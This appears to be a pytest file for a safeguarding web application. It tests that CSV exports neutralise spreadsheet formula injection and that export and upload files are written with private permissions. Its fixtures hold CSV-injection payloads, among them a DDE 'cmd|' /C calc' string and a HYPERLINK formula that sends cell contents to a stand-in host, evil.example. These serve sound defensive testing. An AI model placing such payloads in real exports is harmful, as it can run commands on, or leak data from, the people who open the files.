"""CSV formula injection (ASVS 1.2.10) and private export files: every CSV a person opens is
neutralised; the exchange files are data for machines, exempt and documented, and round-trip."""

import csv
import io
import os
import re
import stat
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from safeguarding import csvsafe
from safeguarding.access.models import AccessAction, AccessEvent
from safeguarding.people.models import Person
from tests.exchange import extract
from tests.exchange.helpers import run_import
from tests.signin import verified_client

SRC = Path(csvsafe.__file__).resolve().parent
DOCS = SRC.parents[1] / "docs"


@pytest.mark.parametrize(
    "cell, shown",
    [
        ('=HYPERLINK("http://x/?"&A1,"Click")', '\'=HYPERLINK("http://x/?"&A1,"Click")'),
        ("+44 7700 900102", "'+44 7700 900102"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Amelia Hartley", "Amelia Hartley"),
        ("a=b", "a=b"),
        ("-3", "-3"),  # a plain number stays a number
        ("+1.5", "+1.5"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_cells_that_a_spreadsheet_would_evaluate_are_neutralised(cell, shown):
    assert csvsafe.neutralise(cell) == shown


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1+1", "ok"], ["@x", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["'@x", "2"]]


def test_no_csv_is_written_by_hand_outside_the_helper_and_the_exchange_files():
    """Every human-facing CSV goes through csvsafe.writer; only the machine exchange is exempt."""
    exempt = {SRC / "csvsafe.py", SRC / "exchange" / "exporter.py"}
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path not in exempt and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert not offenders


@pytest.mark.django_db
def test_the_access_log_export_is_neutralised(cast):
    AccessEvent.objects.create(
        actor_username="=cmd|' /C calc'!A0",
        actor_role="officer",
        action=AccessAction.SEARCH,
        object_type="person",
        object_label='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        query="+44 7700 900102",
    )
    client = verified_client(cast["admin"], stepped_up=True)  # both factors (tests/signin.py)

    response = client.get("/access-log/export.csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    searched = next(row for row in rows if row["action"] == "search")
    assert searched["actor_username"] == "'=cmd|' /C calc'!A0"
    assert searched["object_label"].startswith("'=HYPERLINK")
    assert searched["query"] == "'+44 7700 900102"


@pytest.mark.django_db
def test_the_indicators_export_is_neutralised(cast, districts):
    districts["north"].name = "=1+1"
    districts["north"].save()
    from tests.factories import make_case, make_standard_result

    make_standard_result(make_case(districts["north"], reported="2026-03-05"), "DEMEANOUR", "met")
    client = verified_client(cast["safeguarding_unit"], stepped_up=True)  # both factors (tests/signin.py)

    response = client.get(
        "/standards/indicators/export.csv", {"period_from": "2026-03", "period_to": "2026-04"}
    )

    assert response.status_code == 200
    text = response.content.decode()
    assert "'=1+1" in text and ",=1+1" not in text


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.django_db
def test_exchange_export_files_are_private_and_a_phone_number_round_trips(cast, tmp_path):
    people = extract.FILES["people.csv"].replace(",01632 960001,", ",+44 7700 900102,")
    assert run_import(cast["data_manager"], extract.write(tmp_path / "in", **{"people.csv": people})).loaded
    old = os.umask(0o022)  # a permissive umask, as a shell usually has
    try:
        call_command("export", str(tmp_path / "out"), "--source-system", "NICHE", "--as", "data_manager")
    finally:
        os.umask(old)

    files = sorted((tmp_path / "out").iterdir())
    assert files and {_mode(path) for path in files} == {0o600}
    assert _mode(tmp_path / "out") == 0o700
    # Exempt from escaping (docs/exchange-format.md): written as held, read back as held.
    assert ",+44 7700 900102," in (tmp_path / "out" / "people.csv").read_text()
    darren = Person.objects.get(source_reference="P-2")
    darren.phone = ""
    darren.save(update_fields=["phone"])
    assert run_import(cast["data_manager"], tmp_path / "out").loaded
    assert Person.objects.get(source_reference="P-2").phone == "+44 7700 900102"
    assert "not** escaped" in (DOCS / "exchange-format.md").read_text()


@pytest.mark.django_db
def test_the_import_rejects_file_is_private(cast, tmp_path):
    bad = extract.FILES["people.csv"].replace("P-3,Oliver,,Pennington,2012-09-03", "P-3,Oliver,,Pennington,x")
    directory = extract.write(tmp_path / "x", **{"people.csv": bad})
    rejects = tmp_path / "rejects.csv"
    rejects.write_text("left over\n")
    rejects.chmod(0o644)

    with pytest.raises(CommandError) as partial:
        call_command(
            "import_extract",
            str(directory),
            "--source-system",
            "NICHE",
            "--skip-invalid",
            "--rejects",
            str(rejects),
            "--no-progress",
            "--as",
            "data_manager",
        )
    assert partial.value.returncode == 3

    assert _mode(rejects) == 0o600
    assert "left over" not in rejects.read_text() and "people.csv,4,date_of_birth" in rejects.read_text()


def test_open_private_creates_0600_whatever_the_umask(tmp_path):
    old = os.umask(0)
    try:
        with csvsafe.open_private(tmp_path / "a.csv", "w", encoding="utf-8") as handle:
            handle.write("x")
    finally:
        os.umask(old)
    assert _mode(tmp_path / "a.csv") == 0o600


def test_uploaded_files_are_stored_readable_by_the_server_only(settings, tmp_path):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    settings.MEDIA_ROOT = tmp_path / "media"
    old = os.umask(0o022)
    try:
        name = default_storage.save("evidence/2026/plan.pdf", ContentFile(b"%PDF-1.4"))
    finally:
        os.umask(old)
    stored = Path(default_storage.path(name))
    assert _mode(stored) == 0o600
    assert _mode(stored.parent) == 0o700
